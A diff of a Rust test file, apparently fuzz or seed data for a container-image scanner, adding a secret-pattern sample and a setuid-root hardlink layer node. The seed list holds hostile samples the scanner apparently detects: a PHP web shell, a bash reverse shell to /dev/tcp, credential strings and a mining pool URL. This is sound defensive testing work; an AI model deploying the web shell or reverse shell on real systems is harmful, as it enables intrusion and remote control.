@@ -163,6 +163,7 @@ fn dangers() -> Vec<Vec<u8>> {
         picked(13, "curl -u u:hT7kq9zLm https://h.test"),
         picked(14, "0ABCDEFGHIJKLMNOPtoken = after"),
         picked(15, "1ABCDEFGHIJKLMNOPpassword=\"\"\n"),
+        picked(17, "abcdefghijklmnopexport A=b\nkey: AKIA\n"),
         picked(18, "<?php eval(base64_decode($_POST['a'])); ?>"),
         picked(19, "#!/bin/sh\nbash -i >& /dev/tcp/1.2.3.4/1 0>&1\nstratum+tcp://x\n"),
     ]
@@ -202,9 +203,17 @@ fn manifests() -> Vec<Vec<u8>> {
     let docker = r#"[{"Config":"config.json","RepoTags":["a:1"],"Layers":["layer.tar"]}]"#;
     let item = haechi_image::archive::Item::Document("a".into(), digest.clone(), b"{}".to_vec());
     let link = haechi_image::archive::Item::Link("a".into(), "b".into());
-    let layer = haechi_image::archive::Item::Layer(String::new(), Box::default());
+    let node = haechi_image::layer::Node {
+        path: "a/b".into(),
+        kind: haechi_image::layer::NodeKind::Hardlink("c".into()),
+        mode: 0o4755,
+        uid: 0,
+        gid: 0,
+    };
+    let layer = haechi_image::layer::LayerScan { size: u64::MAX, nodes: vec![node], ..Default::default() };
+    let layer = haechi_image::archive::Item::Layer(String::new(), Box::new(layer));
     let mut sent = Vec::new();
-    for item in [&item, &link, &layer] {
+    for item in [&item, &link, &layer, &layer] {
         haechi_image::worker::send(&mut sent, item).expect("memory takes it");
     }
     let mut seeds = vec![
